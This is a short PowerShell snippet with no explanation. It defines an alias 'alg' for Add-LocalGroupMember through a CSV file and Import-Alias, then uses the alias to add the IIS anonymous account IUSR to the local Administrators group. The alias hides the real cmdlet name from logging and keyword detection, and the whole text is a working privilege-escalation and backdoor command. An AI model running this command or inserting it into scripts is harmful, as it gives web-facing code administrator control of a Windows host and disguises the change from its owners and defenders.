"alg,Add-LocalGroupMember,,None" | sc a.csv
Import-Alias a.csv
alg Administrators IUSR
